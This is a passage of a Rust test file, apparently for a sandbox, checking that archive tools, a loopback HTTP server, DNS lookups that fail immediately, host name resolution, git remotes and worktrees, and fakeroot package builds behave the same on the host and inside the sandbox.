perl -MList::Util=sum -MJSON::PP -e 'print JSON::PP->new->canonical->encode({sum => sum(1..10)}), "\n"'
"#;

#[test]
fn shell_tools_archive_compress_sort_lock_and_find_processes_in_scratch() {
    require(&[
        "/usr/bin/tar",
        "/usr/bin/xz",
        "/usr/bin/zstd",
        "/usr/bin/flock",
        "/usr/bin/pgrep",
        "/usr/bin/ps",
        "/usr/bin/perl",
    ]);
    // The three copies of the tree alike, each entry's mode, time and link kept.
    let tree = "3 -rw-r----- 2001-02-03 04:05:06.000000000 +0000 'a.txt'\n\
                3 drwxr-x--- 2001-02-03 04:05:06.000000000 +0000 'sub'\n\
                3 lrwxrwxrwx 2001-02-03 04:05:06.000000000 +0000 'sub/link' -> '../a.txt'\n";
    assert_works_on_host_and_inside(
        "shell tools",
        SHELL_SCRIPT,
        &[],
        &format!(
            "{tree}68b028f3\n200000\n1 2 3 4 5 6 7 8 \ndea9193b\ndea9193b\n\
             \x20300 chunk.aa; 300 chunk.ab; 300 chunk.ac; 100 chunk.ad;1000 total;\n\
             flock -n: held by another\nflock -n: free again\ntimeout: 124\nfrom nohup\n\
             sleep\n{{\"sum\":55}}\n"
        ),
        &[("nohup.txt", "from nohup\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 11. a web server on the task's own loopback; names that cannot resolve fail at once
// ---------------------------------------------------------------------------------------------

const CURL: &str = "/usr/bin/curl";

/// A server the task starts on its own loopback (port 0: the kernel picks a free one, so host
/// controls running at once do not collide), fetched by curl and urllib by address and by the
/// name localhost (::1 first, where nothing listens, then 127.0.0.1).
const LOOPBACK_SCRIPT: &str = r#"set -e
echo 'served from scratch' > page.txt
/usr/bin/python3 -c '
import http.server, os
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
open("port.tmp", "w").write(str(s.server_port))
os.rename("port.tmp", "port")
s.serve_forever()' 2> server.log &
i=0
until [ -s port ]; do i=$((i + 1)); [ $i -lt 200 ] || { echo 'no server'; exit 1; }; sleep 0.05; done
port=$(cat port)
/usr/bin/curl -sS "http://127.0.0.1:$port/page.txt"
/usr/bin/curl -sS "http://localhost:$port/page.txt"
/usr/bin/python3 -c "import urllib.request; print(urllib.request.urlopen('http://localhost:$port/page.txt').read().decode().strip(), '(urllib)')"
kill $!
grep -c '"GET /page.txt HTTP/1.1" 200' server.log
"#;

/// Lookups of names /etc/hosts does not hold, as tools make them: without `--share-net` the
/// sandbox's nsswitch.conf says `hosts: files`, so each fails at once rather than waiting on a
/// resolver it cannot reach.
const DNS_SCRIPT: &str = r#"getent hosts example.com || echo "getent hosts example.com: exit $?"
/usr/bin/curl -sS https://example.com/ 2>&1 || echo "curl: exit $?"
/usr/bin/python3 -c 'import socket
try:
    socket.getaddrinfo("pypi.org", 443)
except socket.gaierror as e:
    print("getaddrinfo:", e)'
/usr/bin/git ls-remote https://example.com/repo.git 2>&1 || echo "git: exit $?"
getent hosts airlock localhost
"#;

#[test]
fn a_server_on_the_tasks_loopback_answers_and_dns_fails_at_once() {
    require(&[PYTHON, CURL, GIT]);
    assert_works_on_host_and_inside(
        "loopback server",
        LOOPBACK_SCRIPT,
        &[],
        "served from scratch\nserved from scratch\nserved from scratch (urllib)\n3\n",
        &[("page.txt", "served from scratch\n")],
    );
    // Inside only: the host may resolve these names. The control is the sandbox's own names,
    // which resolve. That the failures come at once is shown by what they say, not timed
    // (tests assert no times): getaddrinfo's "Name or service not known" (EAI_NONAME) is the
    // answer of `hosts: files` alone; a resolver tried and not reached answers "Temporary
    // failure in name resolution" (EAI_AGAIN) instead, after its timeout where packets are
    // routed (the run's time is printed: 50-100 ms on the dev VM).
    for who in BOTH {
        let (_, rep) = inside(who, DNS_SCRIPT, &[], &[], &[]);
        assert_exited_0(&rep, &format!("dns, {who:?}"));
        assert_eq!(
            rep["stdout"],
            json!(
                "getent hosts example.com: exit 2\n\
                 curl: (6) Could not resolve host: example.com\ncurl: exit 6\n\
                 getaddrinfo: [Errno -2] Name or service not known\n\
                 fatal: unable to access 'https://example.com/repo.git/': Could not resolve \
                 host: example.com\ngit: exit 128\n\
                 127.0.0.1       airlock\n\
                 ::1             localhost ip6-localhost ip6-loopback\n"
            ),
            "dns, {who:?}: {rep:#}"
        );
        eprintln!("dns, {who:?}: {} ms", rep["duration_ms"]);
    }
}

/// The host's name, resolved as programs that want their full name resolve it: `hostname -f`
/// and getaddrinfo's canonical name (AI_CANONNAME), which Java's, Python's and configuration
/// tools' "fully qualified name" read, and `getent hosts`. Each must give back the name itself,
/// as on the host; the sandbox's `/etc/hosts` once listed `airlock` as an alias of `localhost`,
/// so all three answered `localhost` there.
const FQDN_SCRIPT: &str = r#"name=$(hostname)
[ "$(hostname -f)" = "$name" ] && echo "hostname -f: the name itself"
getent hosts "$name" | { read -r _ canonical _; [ "$canonical" = "$name" ] && echo "getent hosts: the name itself"; }
/usr/bin/python3 -c 'import socket
name = socket.gethostname()
print("getaddrinfo canonical name is the name:", socket.getaddrinfo(name, None, flags=socket.AI_CANONNAME)[0][3] == name)'
"#;

#[test]
fn a_program_asking_for_its_full_host_name_gets_the_name() {
    require(&[PYTHON, "/usr/bin/hostname", "/usr/bin/getent"]);
    assert_works_on_host_and_inside(
        "fqdn",
        FQDN_SCRIPT,
        &[],
        "hostname -f: the name itself\ngetent hosts: the name itself\n\
         getaddrinfo canonical name is the name: True\n",
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// 12. git: a bare repository, a worktree, an aggressive gc, a mirror
// ---------------------------------------------------------------------------------------------

/// A project's history moved around as tools move it: a clone of a bare repository by file://
/// URL (git's upload-pack and receive-pack, talking over pipes), a second worktree on a branch
/// of its own (its lock and admin files), a push back, an aggressive gc (repack, prune), a
/// mirror clone and a strict fsck of a clone of it.
const GIT_REMOTE_SCRIPT: &str = concat!(
    git_prelude!(),
    r#"g init -q --bare origin.git
g clone -q "file://$PWD/origin.git" work 2>/dev/null
cd work
echo one > a.txt
g add a.txt
g commit -q -m first
g push -q origin main
g worktree add -q ../feature -b feature
cd ../feature
echo two >> a.txt
g commit -q -am second
cd ../work
g merge -q --ff-only feature
g push -q origin main
g worktree list --porcelain | grep -c '^worktree '
g worktree remove ../feature
g gc -q --aggressive --prune=now
g count-objects -v | grep -E '^(count|in-pack):'
cd ..
g clone -q --mirror origin.git mirror.git
g -C mirror.git log --format='%H %s' main
g clone -q mirror.git copy
g -C copy fsck --strict --no-progress
cat copy/a.txt > a.txt
"#
);

#[test]
fn git_pushes_to_a_bare_repository_through_a_worktree_and_mirrors_it_in_scratch() {
    require(&[GIT]);
    assert_works_on_host_and_inside(
        "git remote",
        GIT_REMOTE_SCRIPT,
        &[],
        "2\ncount: 0\nin-pack: 6\n3a9f97038ff16560c3fc98b48937974d743e2ed7 second\n\
         e39a4ed186cff4df584627132b2a22a9d3a7c40e first\n",
        &[("a.txt", "one\ntwo\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 13. fakeroot: a package whose files belong to root, built without root
// ---------------------------------------------------------------------------------------------

const FAKEROOT: &str = "/usr/bin/fakeroot";
const DPKG_DEB: &str = "/usr/bin/dpkg-deb";

/// A Debian package built under fakeroot, whose files it records as root's. fakeroot runs the
/// real `chown` and passes over EPERM, which an unprivileged process gets on a host; in the
/// sandbox's user namespace a chown to an unmapped id is EINVAL, which fakeroot reports and
/// exits 1 on, so the policy answers it EPERM (seccomp/README.md, "Ids the sandbox lacks").
const FAKEROOT_SCRIPT: &str = r#"set -e
mkdir -p pkg/DEBIAN pkg/usr/share/doc/hello
printf 'Package: hello\nVersion: 1.0\nArchitecture: all\nMaintainer: A <a@example.org>\nDescription: hello\n' > pkg/DEBIAN/control
echo hello > pkg/usr/share/doc/hello/README
fakeroot sh -c 'chown -R 0:0 pkg && dpkg-deb --build pkg hello.deb >/dev/null'
dpkg-deb --fsys-tarfile hello.deb | tar -tv --numeric-owner | awk '{print $2, $6}' > contents.txt
"#;

#[test]
fn fakeroot_builds_a_package_of_root_owned_files_in_scratch() {
    require(&[FAKEROOT, DPKG_DEB]);
    assert_works_on_host_and_inside(
        "fakeroot",
        FAKEROOT_SCRIPT,
        &[],
        "",
        &[(
            "contents.txt",
            "0/0 ./\n0/0 ./usr/\n0/0 ./usr/share/\n0/0 ./usr/share/doc/\n0/0 ./usr/share/doc/hello/\n\
             0/0 ./usr/share/doc/hello/README\n",
        )],
    );
}
